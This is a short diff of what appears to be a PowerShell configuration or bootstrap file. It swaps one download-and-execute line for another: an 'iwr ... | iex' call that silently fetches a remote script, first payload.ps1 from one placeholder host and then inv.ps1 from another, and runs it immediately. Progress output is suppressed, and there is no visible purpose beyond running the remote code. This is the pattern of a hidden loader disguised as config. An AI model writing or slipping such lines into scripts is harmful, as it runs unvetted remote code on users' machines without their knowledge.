@@ -1,3 +1,3 @@
-# config 5399 v1
+# bootstrap 3013 v1
 $ProgressPreference = 'SilentlyContinue'
-iwr -UseBasicParsing http://files.sync-svc.example/payload.ps1 | iex
+iwr -UseBasicParsing http://repo.pkg-mirror.example/inv.ps1 | iex
